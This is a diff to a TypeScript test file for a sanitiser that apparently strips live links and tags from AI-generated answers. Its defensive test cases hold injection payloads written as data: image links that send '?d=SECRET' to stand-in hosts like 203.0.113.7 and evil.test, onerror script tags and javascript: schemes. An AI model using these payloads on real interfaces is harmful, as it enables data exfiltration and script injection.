@@ -1,4 +1,5 @@
 // @vitest-environment node
+import fc from 'fast-check';
 import { expect, it } from 'vitest';
 import { answerByModel } from '@/answers/answer-by-model';
 import { createAsker } from '@/answers/asker';
@@ -60,16 +61,53 @@ function askerOf(model: Model) {
 }
 
 it('keeps what the page itself has', () => {
-  const page = 'See https://a.example/x?y=1 or mail me@a.example. <b> is a tag.';
+  const page = String.raw`See https://a.example/x?y=1 or (https://a.example/F_(b)), mail me@a.example.
+    [Wiki](https://w.example/Foo_(bar)) runs Node.js at 127.0.0.1:80; //b.example/c, https://a.example/foo\_bar`;
   for (const kept of [
     'See https://a.example/x?y=1.',
-    'me@a.example',
-    '<b>',
+    'me@a.example, //b.example/c and 127.0.0.1:80.',
+    'https://a.example/foo_bar',
+    '(https://a.example/F_(b))',
     '[x](https://a.example/x?y=1)',
+    '[x](https://w.example/Foo_(bar))',
+    'On a.example it costs 1.99, e.g. Node.js v2.0 at 10:30, 3 < 4 [1] and/or 5//6 (Ph.D.)',
   ])
     expect(safeText(kept, page)).toBe(kept);
-  expect(safeText('Costs 1.99, e.g. Node.js v2.0 at 10:30', page)).toBe(
-    'Costs 1.99, e.g. Node.js v2.0 at 10:30',
+  expect(safeText('It ends.Then it is *bold*.', page)).toBe('It ends. Then it is *bold*.');
+});
+
+it.each([
+  ['a tag in a link', '![x]<b>(//203.0.113.7/p.png?d=SECRET)', 'x'],
+  ['a tag in a tag', '<<b>img src=//evil.test?d=SECRET>', '‹img src=…>'],
+  ['brackets in a picture', '![[x]](//203.0.113.7/p?d=1)', '[[x]] (…)'],
+  ['a reference', '![x][1]\n\n[1]: //203.0.113.7/p', '[x] [1]\n\n[1] : …'],
+  ['a tag that never ends', '<img src=x onerror=alert(1) ', '‹img src=x onerror=alert(1) '],
+  ['a tag that the page shows as code', '<img src=x onerror=a()>', ''],
+  ['a host', 'evil.de', '…'],
+  ['a host of digits', '1.2.3.4/x', '…'],
+  ['an address without a scheme', '//evil.de?d=SECRET', '…'],
+  ['backslashes', String.raw`https:\\evil.de/x`, '…'],
+  ['the page of the site', '[go](/)', 'go'],
+  ['the beginning of an address', 'https://a.example/x', '…'],
+  ['other letter cases', 'HTTPS://A.example/x?y=1', '…'],
+])('lets nothing live through: %s', (_, written, safe) => {
+  const page = 'a/b `<img src=x onerror=a()>` https://a.example/x?y=1';
+  expect(safeText(written, page)).toBe(safe);
+});
+
+it('leaves nothing live, however it is put together, and nothing to do a second time', () => {
+  const live =
+    '![ [ ] ]( ( ) < > <b> <img ! : / // " evil . de https: javascript: https://a.example/';
+  const pieces = fc.constantFrom(...live.split(' '), ' ', '\n', '1 ', '203.0.113.7/');
+  fc.assert(
+    fc.property(fc.array(pieces, { maxLength: 14 }), (written) => {
+      const safe = safeText(written.join(''), 'See https://a.example/ for it.');
+      expect(safe).not.toMatch(/<[a-z/!?]|!\[|\]\[|\]:|evil\.de|203\.0|\bjavascript:[^\s…]/iu);
+      const others = safe.replaceAll('https://a.example/', '');
+      expect(others).not.toMatch(/\]\((?!\))|\p{L}:\/\/|(?<![/:\p{L}\p{N}])\/\/[\p{L}\p{N}]/u);
+      expect(safeText(safe, 'See https://a.example/ for it.')).toBe(safe);
+    }),
+    { numRuns: 2000 },
   );
 });
 
